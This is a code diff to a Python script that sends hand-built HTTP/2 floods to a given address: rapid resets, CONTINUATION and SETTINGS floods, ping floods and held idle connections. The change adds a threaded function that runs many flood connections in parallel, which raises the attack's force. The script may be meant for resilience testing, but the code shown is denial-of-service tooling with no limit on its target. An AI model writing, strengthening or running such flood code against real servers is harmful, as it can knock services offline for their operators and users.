@@ -1,11 +1,13 @@
 """Floods against a party's address, over sockets, TLS and HTTP/2 frames by hand (RFC 9113): what no library would send.
-   floods.py ADDRESS KIND SECONDS [KEY PEM]    KIND: resets, deaf, pings, continuation, settings, idle, connect; without KEY and PEM as a stranger
+   floods.py ADDRESS KIND SECONDS CONNECTIONS [KEY PEM]    KIND: resets, deaf, pings, continuation, settings, idle, connect; without KEY and PEM as a stranger
+CONNECTIONS: how many are kept open at once, each opened again when it is closed (idle and connect have a number of their own).
 Prints what was sent, as JSON."""
 import json
 import socket
 import ssl
 import struct
 import sys
+import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -90,6 +92,16 @@ def pour(address, kind, end, identity):
     return {"sent": sent, "connections": connections}
 
 
+def pour_at_once(address, kind, end, connections, identity):
+    found = []
+    threads = [threading.Thread(target=lambda: found.append(pour(address, kind, end, identity))) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return {what: sum(one[what] for one in found) for what in ("sent", "connections")}
+
+
 def hold(address, end, most=3000):
     """Connections that say nothing, as many as there may be, held until the end."""
     held, connections = [], 0
@@ -120,9 +132,10 @@ def knock(address, end):
 
 
 def main():
-    address, kind, seconds, *identity = sys.argv[1:]
+    address, kind, seconds, connections, *identity = sys.argv[1:]
     end = time.monotonic() + float(seconds)
-    print(json.dumps(hold(address, end) if kind == "idle" else knock(address, end) if kind == "connect" else pour(address, kind, end, identity)))
+    done = hold(address, end) if kind == "idle" else knock(address, end) if kind == "connect" else pour_at_once(address, kind, end, int(connections), identity)
+    print(json.dumps(done))
 
 
 if __name__ == "__main__":
